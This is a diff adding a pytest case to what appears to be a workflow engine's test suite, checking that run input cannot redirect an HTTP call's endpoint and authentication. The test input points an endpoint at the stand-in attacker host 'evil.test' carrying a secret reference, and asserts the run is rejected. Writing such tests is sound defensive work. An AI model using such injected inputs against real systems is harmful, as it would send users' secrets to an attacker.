@@ -126,6 +126,21 @@ def test_authentications_are_resolved_but_secrets_stay_references(
     assert call["endpoint"]["authentication"] == expected
 
 
+@pytest.mark.parametrize("policy", [{"use": "a"}, {"basic": {"use": "vault"}}])
+@pytest.mark.parametrize(
+    "endpoint", ["'${ .e }'", "{uri: 'https://x.test', authentication: '${ .e.authentication }'}"]
+)
+def test_data_cannot_name_a_policy_or_a_secret(policy: Any, endpoint: str) -> None:
+    """Whoever gives the input of a run would else have its secrets sent where they like."""
+    done = play(
+        f"{AUTH}\ndo: [{{t: {{call: http, with: {{method: get, endpoint: {endpoint}}}}}}}]",
+        {"e": {"uri": "https://evil.test", "authentication": policy}},
+    )
+
+    assert done.fault.type.endswith("/configuration")
+    assert done.performed == []
+
+
 @pytest.mark.parametrize(
     ("task", "function"),
     [
